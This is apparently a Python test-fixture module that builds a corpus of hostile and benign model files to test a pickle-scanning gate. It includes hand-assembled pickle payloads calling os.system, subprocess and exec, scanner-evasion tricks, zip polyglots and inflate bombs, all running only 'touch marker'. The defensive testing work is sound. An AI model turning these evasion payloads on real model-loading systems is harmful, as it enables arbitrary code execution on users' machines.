"""A corpus of hostile and benign model files for the pickle gate (tests and bench_gate.py).

Each payload, if loaded the way its suffix invites (``pickle.load`` / ``torch.load(...,
weights_only=False)``), only creates the marker file. The files are built with
``pickle.dumps`` of objects whose ``__reduce__`` names a callable (that only *writes* a
pickle), or assembled opcode by opcode for the classes no pickler writes. Nothing here loads
them; `bench_gate.py --live` proves in a throw-away subprocess which ones really run.

Classes (see issue "Fail closed everywhere"): every importing opcode (GLOBAL, STACK_GLOBAL,
INST, OBJ, EXT1/2/4) under protocols 0-5, memo tricks, calls on unresolved values, nested
pickles, framing that readers disagree on, torch zips (payload data.pkl, upper-case
DATA.PKL, duplicate names, TorchScript, two central directories, bytes around the archive,
encrypted and compressed members, inflate bombs), legacy and tar torch files, polyglots, and
resource bombs (members, opcodes, tags). Benign: torch.save (zip and legacy), diffusers and
PEFT-saved LoRAs (.bin and .safetensors), a kohya-style LoRA.
"""

from __future__ import annotations

import copyreg
import io
import json
import os
import pickle
import struct
import subprocess
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from pathlib import Path

PICKLE_EXTENSIONS = (".ckpt", ".pt", ".pth", ".bin", ".safetensors")


class Reduce:
    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def _u(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b


def _s0(text: str) -> bytes:
    """Protocol-0 STRING."""
    return b"S" + repr(text).encode() + b"\n"


def payloads(marker: Path) -> dict[str, bytes]:
    """Raw pickles that run ``touch marker`` when unpickled."""
    cmd = f"touch {marker}"
    argv = ["touch", str(marker)]
    out = {}
    for proto in range(6):
        out[f"os.system p{proto}"] = pickle.dumps(Reduce(os.system, cmd), protocol=proto)
    out["subprocess.Popen"] = pickle.dumps(Reduce(subprocess.Popen, argv), protocol=4)
    out["subprocess.check_call"] = pickle.dumps(Reduce(subprocess.check_call, argv), protocol=2)
    out["builtins.exec"] = pickle.dumps(Reduce(exec, f"open({str(marker)!r}, 'w')"), protocol=3)
    out["builtins.eval p0"] = pickle.dumps(Reduce(eval, f"open({str(marker)!r}, 'w')"), protocol=0)
    # getattr(__import__("os"), "system")(cmd), protocol 0
    out["getattr chain"] = (b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(" + _s0("os") + b"tR" + _s0("system")
                            + b"tR(" + _s0(cmd) + b"tR.")
    # protocol 0 INST: picklescan's malicious10 class.
    out["INST os.system"] = b"(" + _s0(cmd) + b"ios\nsystem\n."
    out["INST posix.system"] = b"(" + _s0(cmd) + b"iposix\nsystem\n."
    # OBJ after GLOBAL (protocol 1): the class is the first item after the MARK.
    out["OBJ after GLOBAL"] = b"(cos\nsystem\n" + _s0(cmd) + b"o."
    # OBJ after STACK_GLOBAL, with strings pushed around it so a walker whose model of the
    # stack is off by one sees "torch Size" where CPython calls os.system.
    out["OBJ stack desync"] = (b"\x80\x04" + _u("torch") + _u("Size") + b"0" + b"0" + b"(" + _u("os")
                               + _u("system") + b"\x93" + _u(cmd) + b"o.")
    out["STACK_GLOBAL via memo"] = (b"\x80\x04" + _u("os") + b"\x94" + _u("system") + b"\x94" + b"00"
                                    + b"h\x00h\x01\x93" + _u(cmd) + b"\x85R.")
    out["memoized global called twice"] = (b"\x80\x02cos\nsystem\nq\x00" + b"0" + b"h\x00" + b"X"
                                           + struct.pack("<I", len(cmd)) + cmd.encode() + b"\x85R.")
    out["NEWOBJ on os.system"] = b"\x80\x02cos\nsystem\n" + b"X" + struct.pack("<I", len(cmd)) + cmd.encode() \
        + b"\x85\x81."
    out["NEWOBJ_EX"] = b"\x80\x04" + _u("os") + _u("system") + b"\x93" + _u(cmd) + b"\x85}\x92."
    out["REDUCE on a call's result"] = (b"\x80\x02ctorch\ndevice\nX\x03\x00\x00\x00cpu\x85R"
                                        + b"X" + struct.pack("<I", len(cmd)) + cmd.encode() + b"\x85R.")
    out["BUILD on an imported class"] = b"\x80\x02ctorch\nSize\n}X\x07\x00\x00\x00__add__cos\nsystem\nsb."
    out["nested pickle through pickle.loads"] = pickle.dumps(
        Reduce(pickle.loads, pickle.dumps(Reduce(os.system, cmd))), protocol=2)
    out["state dict with a payload inside"] = pickle.dumps(OrderedDict(w=Reduce(os.system, cmd)), protocol=2)
    out["unresolvable STACK_GLOBAL"] = b"\x80\x04K\x01K\x02\x93" + _u(cmd) + b"\x85R."
    out["GET of an unknown memo"] = b"\x80\x04h\x07h\x08\x93" + _u(cmd) + b"\x85R."
    # EXT: a copyreg extension code names the callable; what it names depends on the loader.
    code = 0xF1
    try:
        copyreg.add_extension(os.system.__module__, "system", code)  # "posix" on Linux
        out["EXT1 registered"] = pickle.dumps(Reduce(os.system, cmd), protocol=2)
    finally:
        copyreg.remove_extension(os.system.__module__, "system", code)
    out["EXT1 unregistered"] = b"\x80\x02\x82\xf1" + _u(cmd) + b"\x85R."
    out["EXT2"] = b"\x80\x02\x83\xf1\x00" + _u(cmd) + b"\x85R."
    out["EXT4"] = b"\x80\x02\x84\xf1\x00\x00\x00" + _u(cmd) + b"\x85R."
    # FRAME divergence (fickling): an opcode argument that runs past its frame's end.
    hidden = b"\x80\x04" + _u("os") + _u("system") + b"\x93" + _u(cmd) + b"\x85R."
    inner = b"B" + struct.pack("<I", len(hidden)) + hidden[:4]
    out["FRAME straddled"] = b"\x80\x04\x95" + struct.pack("<Q", len(inner)) + inner + hidden[4:] + b"0N."
    frame_body = hidden[2:-1] + b"."
    out["FRAME nested"] = (b"\x80\x04\x95" + struct.pack("<Q", 30) + b"\x95" + struct.pack("<Q", len(frame_body))
                           + frame_body)
    out["opcode after STOP"] = pickle.dumps(OrderedDict(a=1), protocol=2) + pickle.dumps(Reduce(os.system, cmd))
    return out


def torch_zip(pkl: bytes, extra: dict[str, bytes] | None = None, before: bytes = b"", after: bytes = b"",
              name: str = "archive/data.pkl", compress: dict[str, int] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for member, data in (extra or {}).items():
            z.writestr(member, data, compress_type=(compress or {}).get(member, zipfile.ZIP_STORED))
        z.writestr(name, pkl, compress_type=(compress or {}).get(name, zipfile.ZIP_STORED))
        z.writestr("archive/version", "3\n")
    return before + buf.getvalue() + after


def legacy(main_pickle: bytes) -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    return (magic + pickle.dumps(1001, protocol=2) + pickle.dumps({"little_endian": True}, protocol=2)
            + main_pickle + pickle.dumps([], protocol=2))


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _two_central_directories(evil: bytes, clean: bytes) -> bytes:
    """A zip whose 32-bit end record points at one central directory (the payload) and whose
    zip64 record points at another (a clean one): readers that prefer different records load
    different pickles."""
    good, bad = torch_zip(clean), torch_zip(evil)
    # Lay out: bad archive's members+CD, then good archive's members+CD, with offsets fixed up.
    bad_cd = _cd_span(bad)
    good_cd = _cd_span(good)
    body_bad = bad[:bad_cd[0]]
    cd_bad = _shift_cd(bad[bad_cd[0]:bad_cd[1]], 0)
    body_good = good[:good_cd[0]]
    base = len(body_bad) + len(cd_bad)
    cd_good = _shift_cd(good[good_cd[0]:good_cd[1]], base)
    out = body_bad + cd_bad + body_good + cd_good
    zip64_at = len(out)
    entries = _entries(good)
    zip64 = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, len(cd_good),
                        base + len(body_good))
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, zip64_at, 1)
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, _entries(bad), _entries(bad), len(cd_bad),
                       len(body_bad), 0)
    return out + zip64 + locator + eocd


def _cd_span(archive: bytes) -> tuple[int, int]:
    eocd = archive.rfind(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", archive, eocd + 12)
    return offset, offset + size


def _entries(archive: bytes) -> int:
    return struct.unpack_from("<H", archive, archive.rfind(b"PK\x05\x06") + 10)[0]


def _shift_cd(cd: bytes, by: int) -> bytes:
    out, pos = bytearray(cd), 0
    while pos < len(out):
        n, m, k = struct.unpack_from("<HHH", out, pos + 28)
        offset = struct.unpack_from("<I", out, pos + 42)[0]
        struct.pack_into("<I", out, pos + 42, offset + by)
        pos += 46 + n + m + k
    return bytes(out)


def _encrypted_flag(archive: bytes) -> bytes:
    out = bytearray(archive)
    for sig, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = out.find(sig)
        while pos >= 0:
            struct.pack_into("<H", out, pos + at, struct.unpack_from("<H", out, pos + at)[0] | 1)
            pos = out.find(sig, pos + 4)
    return bytes(out)


def _safetensors(metadata: dict[str, str] | None = None, header_pad: int = 0, tensors: bool = True) -> bytes:
    header: dict = {"__metadata__": metadata} if metadata else {}
    data = b""
    if tensors:
        header["lora_unet_x.lora_down.weight"] = {"dtype": "F16", "shape": [2, 2], "data_offsets": [0, 8]}
        data = b"\x00" * 8
    raw = json.dumps(header, separators=(",", ":")).encode() + b" " * header_pad
    return struct.pack("<Q", len(raw)) + raw + data


def _lone_surrogate() -> bytes:
    """A well-formed header whose only fault is an escaped lone surrogate (Python's json takes it)."""
    raw = b'{"__metadata__":{"ss_output_name":"\\ud800"}}'
    return struct.pack("<Q", len(raw)) + raw


def _safetensors_tar_polyglot(pickle_payload: bytes) -> bytes:
    """Valid safetensors whose first 512 bytes are also a valid tar header."""
    filler = 600
    raw = bytearray(json.dumps({"__metadata__": {"p": " " * filler}}, separators=(",", ":")).encode())
    head = bytearray(struct.pack("<Q", len(raw)) + raw)
    fields = {100: b"0000644 ", 108: b"0000000 ", 116: b"0000000 ", 124: b"00000000000 ", 136: b"00000000000 "}
    for at, value in fields.items():
        head[at:at + len(value)] = value
    head[156:157] = b"0"
    head[148:156] = b" " * 8
    checksum = sum(head[:512])
    head[148:156] = b"%06o  " % checksum
    return bytes(head)


def build(folder: Path, marker: Path, *, bombs: bool = True) -> dict[str, tuple[Path, str]]:
    """Write the corpus into ``folder``: ``{name: (path, kind)}``, kind "payload" (would run
    code), "hostile" (malformed, ambiguous or a resource bomb) or "benign"."""
    import torch

    folder.mkdir(parents=True, exist_ok=True)
    files: dict[str, tuple[bytes, str, str]] = {}  # name: (bytes, suffix, kind)
    evil = payloads(marker)
    for name, data in evil.items():
        for suffix in PICKLE_EXTENSIONS:
            files[f"{name}{suffix}"] = (data, suffix, "payload")
    system = evil["os.system p2"]
    clean = pickle.dumps(OrderedDict(a=1), protocol=2)
    for name, data in {
        "zip data.pkl": torch_zip(system),
        "zip data.pkl p0 INST": torch_zip(evil["INST os.system"]),
        "zip upper-case DATA.PKL": torch_zip(system, name="archive/DATA.PKL"),
        "zip second pickle member": torch_zip(clean, {"archive/extra.pkl": system}),
        "zip duplicate data.pkl by case": torch_zip(clean, {"archive/Data.pkl": system}),
        "zip two central directories": _two_central_directories(system, clean),
        "zip deflated payload": torch_zip(system, compress={"archive/data.pkl": zipfile.ZIP_DEFLATED}),
        "legacy main pickle": legacy(system),
        "legacy main pickle INST": legacy(evil["INST os.system"]),
        "tar legacy format": _tar({"sys_info": clean, "pickle": system, "storages": clean, "tensors": clean}),
        "zip inside tar-shaped name": _tar({"pickle": system}),
    }.items():
        for suffix in (".pt", ".ckpt", ".bin"):
            files[f"{name}{suffix}"] = (data, suffix, "payload")
    hostile = {
        "empty file": (b"", ".ckpt"),
        "empty safetensors-named": (b"", ".safetensors"),
        "truncated pickle": (system[:-3], ".ckpt"),
        "pickle without STOP": (system[:-1], ".pt"),
        "zip without data.pkl": (_zip({"archive/a.txt": b"hi"}), ".pt"),
        "zip member torch never writes": (torch_zip(clean, {"archive/run.sh": b"touch x"}), ".pt"),
        "zip TorchScript": (torch_zip(clean, {"archive/constants.pkl": clean, "archive/code/m.py": b"x"}), ".pt"),
        "zip data before": (torch_zip(clean, before=b"\x00" * 128), ".pt"),
        "zip data after": (torch_zip(clean, after=b"\x00" * 128), ".pt"),
        "zip nested archive": (torch_zip(clean, {"archive/inner.zip": torch_zip(system)}), ".pt"),
        "zip encrypted flag": (_encrypted_flag(torch_zip(clean)), ".pt"),
        "zip compressed storage": (torch_zip(clean, {"archive/data/0": b"\x00" * 4096},
                                             compress={"archive/data/0": zipfile.ZIP_DEFLATED}), ".pt"),
        "safetensors zip polyglot": (b"PK\x03\x04" + b"\x00" * 4 + b"{" + torch_zip(system)[9:], ".safetensors"),
        "safetensors named .ckpt": (_safetensors(), ".ckpt"),
        "safetensors tar polyglot": (_safetensors_tar_polyglot(system), ".safetensors"),
        "header over 100,000,000 bytes": (struct.pack("<Q", 100_000_008) + b"{", ".safetensors"),
        "lone surrogate in header": (_lone_surrogate(), ".safetensors"),
    }
    if bombs:
        hostile.update({
            "zip 100k members": (_many_members(100_001), ".pt"),
            "zip inflate bomb data.pkl": (_inflate_bomb(), ".pt"),
            "zip inflate bomb with a lying size": (_inflate_bomb(declared=1000), ".pt"),
            "pickle of 16 MB of opcodes": (b"\x80\x02" + b"N0" * (8 * 1024 ** 2) + b"N.", ".pkl"),
            "300k tags": (_safetensors({"ss_tag_frequency": json.dumps({"1_x": {f"tag{i}": 1 for i in range(300_000)}})}),
                          ".safetensors"),
            "one 20 MB tag": (_safetensors({"ss_tag_frequency": json.dumps({"1_x": {"a" * 20_000_000: 1}})}),
                              ".safetensors"),
        })
    for name, (data, suffix) in hostile.items():
        files[name] = (data, suffix, "hostile")
    written = {}
    for name, (data, suffix, kind) in files.items():
        stem = name[: -len(suffix)] if name.endswith(suffix) else name
        path = folder / (_safe(stem) + suffix)
        path.write_bytes(data)
        written[name] = (path, kind)
    for name, path in benign(folder, torch).items():
        written[name] = (path, "benign")
    return written


def benign(folder: Path, torch) -> dict[str, Path]:
    """Real files of every benign format: they must pass."""
    from safetensors.torch import save_file

    out = {}
    generator = torch.Generator().manual_seed(0)
    state = OrderedDict(weight=torch.randn(4, 4, generator=generator), bias=torch.zeros(4).half(),
                        step=torch.tensor(3))
    for i in range(8):  # storages that start with 0x80 must not be read as pickles
        state[f"w{i}"] = torch.tensor([-0.0, 1.0]) + torch.randn(2, generator=generator)
    state["starts_with_0x80"] = torch.tensor([0x80 + 0x02 * 256 + 0x8A * 65536], dtype=torch.int32)
    path = folder / "benign_torch_save.pt"
    torch.save(state, path)
    out["torch.save zip"] = path
    path = folder / "benign_torch_save_legacy.ckpt"
    torch.save(state, path, _use_new_zipfile_serialization=False)
    out["torch.save legacy"] = path
    lora = {f"unet.down_blocks.0.attentions.0.transformer_blocks.0.attn1.to_q.lora_{ab}.weight":
            torch.randn(4, 32, generator=generator) if ab == "A" else torch.randn(32, 4, generator=generator)
            for ab in ("A", "B")}
    path = folder / "pytorch_lora_weights.bin"
    torch.save(lora, path)  # what diffusers' save_lora_weights(safe_serialization=False) writes
    out["diffusers LoRA .bin"] = path
    path = folder / "adapter_model.safetensors"
    save_file(lora, path, metadata={"format": "pt"})
    out["PEFT LoRA .safetensors"] = path
    kohya = {"lora_unet_down_blocks_0_attentions_0_proj_in.lora_down.weight": torch.randn(4, 32, generator=generator),
             "lora_unet_down_blocks_0_attentions_0_proj_in.lora_up.weight": torch.randn(32, 4, generator=generator),
             "lora_unet_down_blocks_0_attentions_0_proj_in.alpha": torch.tensor(4.0)}
    path = folder / "kohya_style.safetensors"
    save_file(kohya, path, metadata={"ss_network_module": "networks.lora", "ss_tag_frequency":
                                     json.dumps({"10_castle": {"castle": 12, "sky": 3}})})
    out["kohya LoRA"] = path
    f8 = folder / "fp8_fnuz.safetensors"
    raw = json.dumps({"w": {"dtype": "F8_E4M3FNUZ", "shape": [4], "data_offsets": [0, 4]}}).encode()
    f8.write_bytes(struct.pack("<Q", len(raw)) + raw + b"\x01\x02\x03\x04")
    out["F8_E4M3FNUZ safetensors"] = f8
    return out


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _many_members(count: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps({}, protocol=2))
        for i in range(count - 1):
            z.writestr(f"archive/data/{i}", b"")
    return buf.getvalue()


def _inflate_bomb(declared: int | None = None) -> bytes:
    """A deflated data.pkl that inflates to 4 GiB; its header says so, or lies (``declared``)."""
    size = 4 * 1024 ** 3
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\x00" * (1 << 24)
    # After a full flush the compressor starts afresh, so every 16 MiB block compresses to the
    # same bytes: compress it once, repeat it.
    packer.compress(block)
    packer.flush(zlib.Z_FULL_FLUSH)
    chunk = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    data = chunk * (size // len(block)) + packer.flush()
    return raw_zip([("archive/data.pkl", 8, data, size if declared is None else declared, 0)])


def raw_zip(members: list[tuple[str, int, bytes, int, int]]) -> bytes:
    """A zip written by hand: ``(name, method, stored bytes, declared size, crc)`` per member,
    zip64 sizes where they do not fit 32 bits."""
    out, central = bytearray(), bytearray()
    for name, method, data, size, crc in members:
        big = size >= 0xFFFFFFFF or len(data) >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, size, len(data)) if big else b""
        sizes = (0xFFFFFFFF, 0xFFFFFFFF) if big else (len(data), size)
        offset = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 45, 0, method, 0, 0, crc, *sizes, len(name), len(extra))
        out += name.encode() + extra + data
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45, 45, 0, method, 0, 0, crc, *sizes,
                               len(name), len(extra), 0, 0, 0, 0, offset) + name.encode() + extra
    cd_offset = len(out)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), cd_offset, 0)
    return bytes(out)


def _safe(name: str) -> str:
    return "".join(ch if ch.isalnum() or ch in "-_." else "_" for ch in name)
